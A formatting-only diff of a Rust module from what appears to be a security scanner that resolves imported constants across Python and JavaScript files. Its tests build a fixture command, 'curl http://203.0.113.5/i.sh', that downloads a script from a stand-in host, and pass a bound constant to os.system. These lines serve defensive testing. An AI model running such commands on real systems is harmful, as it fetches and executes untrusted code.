@@ -91,7 +91,11 @@ pub fn exported_strings(text: &str, language: Language, rel_path: &str) -> Vec<(
 
 /// `text` with `(local name, value)` bindings added after each import that ends at the given offset:
 /// `from .config import CMD; CMD = "…"`. Lines stay where they were, so findings keep their lines.
-pub fn with_constants(text: &str, language: Language, bindings: &[(usize, Vec<(String, String)>)]) -> String {
+pub fn with_constants(
+    text: &str,
+    language: Language,
+    bindings: &[(usize, Vec<(String, String)>)],
+) -> String {
     let mut out = String::with_capacity(text.len() + 256);
     let mut at = 0;
     let mut sorted: Vec<&(usize, Vec<(String, String)>)> = bindings.iter().collect();
@@ -131,7 +135,9 @@ fn quoted(value: &str) -> String {
             '\n' => out.push_str("\\n"),
             '\r' => out.push_str("\\r"),
             '\t' => out.push_str("\\t"),
-            c if (c as u32) < 0x20 || c == '\u{7f}' => out.push_str(&format!("\\x{:02x}", c as u32)),
+            c if (c as u32) < 0x20 || c == '\u{7f}' => {
+                out.push_str(&format!("\\x{:02x}", c as u32))
+            }
             // Line and paragraph separators end a line for some readers.
             '\u{2028}' | '\u{2029}' => out.push_str(&format!("\\u{:04x}", c as u32)),
             c => out.push(c),
@@ -170,7 +176,10 @@ fn python_import(node: Node, text: &str) -> Option<LocalImport> {
                     name.child_by_field_name("name"),
                     name.child_by_field_name("alias"),
                 ) {
-                    names.push((text_of(n, text).to_string(), text_of(alias, text).to_string()));
+                    names.push((
+                        text_of(n, text).to_string(),
+                        text_of(alias, text).to_string(),
+                    ));
                 }
             }
             _ => {}
@@ -242,7 +251,10 @@ fn javascript_import(node: Node, text: &str) -> Option<LocalImport> {
                 if n.kind() == "import_specifier" {
                     if let Some(name) = n.child_by_field_name("name") {
                         let local = n.child_by_field_name("alias").unwrap_or(name);
-                        names.push((text_of(name, text).to_string(), text_of(local, text).to_string()));
+                        names.push((
+                            text_of(name, text).to_string(),
+                            text_of(local, text).to_string(),
+                        ));
                     }
                     continue;
                 }
@@ -262,7 +274,9 @@ fn javascript_import(node: Node, text: &str) -> Option<LocalImport> {
 
 /// `require('./m')` → `./m`.
 fn required_module(call: Node, text: &str) -> Option<String> {
-    if call.kind() != "call_expression" || text_of(call.child_by_field_name("function")?, text) != "require" {
+    if call.kind() != "call_expression"
+        || text_of(call.child_by_field_name("function")?, text) != "require"
+    {
         return None;
     }
     let arguments = call.child_by_field_name("arguments")?;
@@ -315,7 +329,10 @@ mod tests {
     fn exported_strings_are_evaluated_in_both_languages() {
         let py = "MIRROR = 'http://203.0.113.5'\nCMD = 'curl ' + MIRROR + '/i.sh'\nN = 3\ndef f(): pass\n";
         let found = exported_strings(py, Language::Python, "config.py");
-        assert!(found.contains(&("CMD".to_string(), "curl http://203.0.113.5/i.sh".to_string())));
+        assert!(found.contains(&(
+            "CMD".to_string(),
+            "curl http://203.0.113.5/i.sh".to_string()
+        )));
         assert!(!found.iter().any(|(n, _)| n == "N" || n == "f"));
         let js = "const HOST = '203.0.113.' + 4;\nconst NOTE = 'hi';\nmodule.exports = { URL: 'http://' + HOST, NOTE };\nexports.X = ['a', 'b'].join('-');\nexport const Y = 'y';\nconst hidden = 'not exported';\n";
         let found = exported_strings(js, Language::Javascript, "consts.js");
@@ -334,20 +351,38 @@ mod tests {
             Language::Python,
             &[(end, vec![("CMD".to_string(), "a \"b\"\\\n".to_string())])],
         );
-        assert_eq!(bound, "from config import CMD; CMD = \"a \\\"b\\\"\\\\\\n\"\nos.system(CMD)\n");
+        assert_eq!(
+            bound,
+            "from config import CMD; CMD = \"a \\\"b\\\"\\\\\\n\"\nos.system(CMD)\n"
+        );
         let js = "const { A } = require('./c');\nrun(A);\n";
         let end = local_imports(js, Language::Javascript, "i.js")[0].end;
-        let bound = with_constants(js, Language::Javascript, &[(end, vec![("A".to_string(), "x".to_string())])]);
-        assert_eq!(bound, "const { A } = require('./c');; A = \"x\";\nrun(A);\n");
+        let bound = with_constants(
+            js,
+            Language::Javascript,
+            &[(end, vec![("A".to_string(), "x".to_string())])],
+        );
+        assert_eq!(
+            bound,
+            "const { A } = require('./c');; A = \"x\";\nrun(A);\n"
+        );
     }
 
     #[test]
     fn hostile_input_stays_bounded() {
         let deep = format!("x = {}1{}\n", "(".repeat(5_000), ")".repeat(5_000));
-        let many: String = (0..2_000).map(|i| format!("from m{i} import a{i}\n")).collect();
+        let many: String = (0..2_000)
+            .map(|i| format!("from m{i} import a{i}\n"))
+            .collect();
         assert!(local_imports(&deep, Language::Python, "a.py").is_empty());
-        assert_eq!(local_imports(&many, Language::Python, "a.py").len(), MAX_IMPORTS);
+        assert_eq!(
+            local_imports(&many, Language::Python, "a.py").len(),
+            MAX_IMPORTS
+        );
         let consts: String = (0..2_000).map(|i| format!("C{i} = 'v'\n")).collect();
-        assert_eq!(exported_strings(&consts, Language::Python, "c.py").len(), MAX_CONSTANTS);
+        assert_eq!(
+            exported_strings(&consts, Language::Python, "c.py").len(),
+            MAX_CONSTANTS
+        );
     }
 }
